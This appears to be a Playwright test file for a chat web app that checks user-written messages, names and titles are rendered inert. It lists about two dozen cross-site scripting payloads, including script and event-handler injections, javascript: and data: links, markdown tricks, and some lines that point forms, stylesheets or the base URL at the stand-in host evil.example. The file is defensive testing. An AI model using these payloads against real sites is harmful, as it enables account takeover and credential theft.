"""What people type stays text: nothing that stands in a message, a name or a title runs, is fetched, or breaks out of its place."""

import re
import sys

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Invite

pytestmark = pytest.mark.anyio

PAYLOADS = (
    "<script>window.struck = 1</script>",
    "<img src=x onerror='window.struck = 1'>",
    "<svg onload='window.struck = 1'><animate onbegin='window.struck = 1' attributeName=x dur=1s></svg>",
    "<svg><script>window.struck = 1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.struck=1'></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.struck = 1</script>'></iframe>",
    "<a href='javascript:window.struck = 1'>click me</a>",
    "[click me](javascript:window.struck=1)",
    "[click me](JaVaScRiPt:window.struck=1)",
    "[click me](java&#x09;script:window.struck=1)",
    "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3RydWNrPTE8L3NjcmlwdD4=)",
    "![alt](https://tracker.example/pixel.png)",
    '![x](x"onerror="window.struck=1)',
    '[x](https://example.org/"onmouseover="window.struck=1)',
    "<details open ontoggle='window.struck = 1'><summary>x</summary></details>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password autofocus onfocus='window.struck = 1'></form>",
    "<object data='data:text/html,<script>window.struck=1</script>'></object>",
    "<noscript><p title='</noscript><img src=x onerror=window.struck=1>'></noscript>",
    "```\n<script>window.struck = 1</script>\n```",
    "`<img src=x onerror=window.struck=1>`",
    "<base href='//evil.example/'>",
    "{{constructor.constructor('window.struck = 1')()}} ${window.struck = 1}",
    "<div id=app></div><p class=shell>",
    "@<img src=x onerror=window.struck=1>",
    "| <img src=x onerror=window.struck=1> | b |\n| --- | --- |\n| <script>window.struck=1</script> | d |",
)
STRUCK = "document.querySelectorAll('.prose script, .prose img, .prose iframe, .prose svg, .prose style, .prose form').length"


async def test_known_payloads_stay_inert_wherever_people_can_write(invite: Invite) -> None:
    mallory, victim = await invite("mallory"), await invite("victim")
    fetched: list[str] = []
    victim.page.on("request", lambda request: fetched.append(request.url))
    nasty = PAYLOADS[1]
    await mallory.api("PATCH", "/me", {"display_name": nasty[:64]})
    room = (await mallory.api("POST", "/rooms", {"name": nasty, "description": " ".join(PAYLOADS[:3])}))["id"]
    await victim.api("POST", f"/rooms/{room}/join")
    posted = [await mallory.api("POST", f"/rooms/{room}/messages", {"text": payload}) for payload in PAYLOADS]
    await mallory.api("POST", f"/rooms/{room}/messages", {"text": nasty, "reply_to": posted[-1]["id"]})
    await victim.enter(f"/rooms/{room}")
    await expect(victim.page.locator("article.row").last).to_contain_text("onerror")

    await victim.page.locator(".quoted").click()
    for payload in PAYLOADS:
        await victim.write(payload)
    await expect(victim.page.locator(".row-unsent")).to_have_count(0)
    await victim.page.get_by_role("button", name="Members and settings").click()
    await victim.page.get_by_role("tab", name="Settings").click()
    links = victim.page.locator(".prose a", has_text="click me")
    for index in range(await links.count()):
        assert re.fullmatch(r"(https?|mailto):.*|", await links.nth(index).get_attribute("href") or "")
    await victim.page.locator(".history").press("Home")
    await victim.page.keyboard.press("Control+k")
    await victim.page.get_by_role("dialog").get_by_role("searchbox").fill("struck")
    await expect(victim.page.locator(".result").first).to_be_visible()

    assert await victim.page.evaluate("window.struck") is None
    assert await victim.page.evaluate(STRUCK) == 0
    assert {re.sub(r"^(\w+://[^/]+).*", r"\1", url) for url in fetched} <= {
        victim.address,
        victim.address.replace("http", "ws"),
    }


async def test_the_policy_would_stop_what_got_through(invite: Invite) -> None:
    visitor = await invite("inline")
    await visitor.go("/")
    blocked = await visitor.page.evaluate(
        """() => {
            const script = document.createElement("script");
            try { script.textContent = "window.struck = 1"; } catch (error) { return String(error); }
            document.body.append(script);
            return "not stopped";
        }"""
    )
    visitor.complaints.clear()  # the browser tells of what it has stopped

    assert "TrustedScript" in blocked
    assert await visitor.page.evaluate("window.struck") is None


async def test_the_first_load_is_small(invite: Invite) -> None:
    visitor = await invite("lightweight")
    taken: dict[str, int] = {}
    session = await visitor.context.new_cdp_session(visitor.page)
    await session.send("Network.enable")
    urls: dict[str, str] = {}
    session.on("Network.responseReceived", lambda event: urls.update({event["requestId"]: event["response"]["url"]}))
    session.on("Network.loadingFinished", lambda event: taken.update({event["requestId"]: event["encodedDataLength"]}))
    room = (await visitor.api("POST", "/rooms", {"name": "Small"}))["id"]

    await visitor.enter(f"/rooms/{room}")
    await visitor.page.wait_for_load_state("networkidle")

    pages = sum(size for request, size in taken.items() if "/api/" not in urls.get(request, "/api/"))
    sys.stdout.write(f"first load: {pages / 1024:.1f} KiB compressed\n")
    assert 0 < pages <= 150 * 1024
    await _no_source_of_others(visitor.page)


async def _no_source_of_others(page: Page) -> None:
    """Everything that the page has loaded is this server's."""
    loaded = await page.evaluate("performance.getEntriesByType('resource').map(each => new URL(each.name).host)")
    assert set(loaded) == {page.url.split("/")[2]}
